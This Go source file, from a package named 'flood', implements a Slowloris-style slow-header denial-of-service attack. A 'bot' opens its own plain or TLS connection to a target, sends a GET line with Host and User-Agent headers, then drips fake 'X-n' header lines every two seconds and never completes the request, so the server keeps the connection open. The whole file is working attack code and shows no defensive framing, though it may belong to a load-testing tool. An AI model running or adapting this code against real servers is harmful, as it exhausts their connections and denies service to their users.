package flood

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"strconv"
	"sync"
	"time"
)

const (
	stallTime = 10 * time.Second // that a slow head is kept open
	lineTime  = 2 * time.Second  // between two of its lines
	writeTime = time.Second      // for one line to be taken
)

// stall opens a connection of its own and sends a head line by line, never to its end, until the site cuts it off, [stallTime] has
// passed or ctx ends.
func (b *bot) stall(ctx context.Context, one order) {
	ctx, cancel := context.WithTimeoutCause(ctx, stallTime, errTimeout)
	defer cancel()
	raw, err := b.dialer.Dial(ctx, b.from)
	if err != nil {
		return
	}
	var reading sync.WaitGroup
	defer reading.Wait()
	defer raw.Close() // not the TLS connection's: a last message is no habit of bots

	conn := raw
	if cfg := tlsConfig(b.o); cfg != nil {
		secure := tls.Client(raw, cfg)
		if secure.HandshakeContext(ctx) != nil {
			return
		}
		conn = secure
	}
	cut := make(chan struct{})
	reading.Go(func() {
		defer close(cut)
		_, _ = io.CopyN(io.Discard, conn, answerBytes) // an answer ends it, as a close does
	})
	head := "GET " + one.target + " HTTP/1.1\r\nHost: " + b.o.ServerName + "\r\nUser-Agent: " + one.agent + "\r\n"
	dribble(ctx, conn, head, cut)
}

// dribble writes head and then a field line every [lineTime].
func dribble(ctx context.Context, conn net.Conn, head string, cut <-chan struct{}) {
	ticker := time.NewTicker(lineTime)
	defer ticker.Stop()
	line := head
	for n := 1; ; n++ {
		if conn.SetWriteDeadline(time.Now().Add(writeTime)) != nil {
			return
		}
		if _, err := io.WriteString(conn, line); err != nil {
			return
		}
		select {
		case <-ticker.C:
		case <-cut:
			return
		case <-ctx.Done():
			return
		}
		line = "X-" + strconv.Itoa(n) + ": " + strconv.Itoa(n) + "\r\n"
	}
}
